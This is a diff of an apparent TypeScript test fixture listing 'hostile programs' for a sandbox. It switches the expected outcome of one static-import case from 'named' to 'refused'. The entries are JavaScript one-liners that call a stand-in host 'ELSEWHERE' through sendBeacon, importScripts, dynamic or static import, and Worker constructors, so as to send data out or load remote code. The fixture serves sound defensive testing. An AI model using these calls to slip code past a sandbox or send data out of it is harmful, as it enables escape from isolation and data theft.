@@ -14,7 +14,7 @@ export const reaches: readonly HostileProgram[] = [
   { ...named, name: 'a beacon', text: "navigator.sendBeacon('http://ELSEWHERE/beacon', '1');" },
   { ...named, name: 'importScripts', text: "importScripts('http://ELSEWHERE/script');" },
   { ...refused, name: 'import()', text: "void import('http://ELSEWHERE/module');" },
-  { ...named, name: 'an import at the top', text: "import { away } from 'http://ELSEWHERE/top';\naway();" },
+  { ...refused, name: 'an import at the top', text: "import { away } from 'http://ELSEWHERE/top';\naway();" },
   { ...refused, name: 'import.meta', text: 'void import.meta.url;' },
   { ...named, name: 'a worker of its own', text: "new Worker('http://ELSEWHERE/worker');" },
   { ...named, name: 'a shared worker', text: "new SharedWorker('http://ELSEWHERE/shared');" },
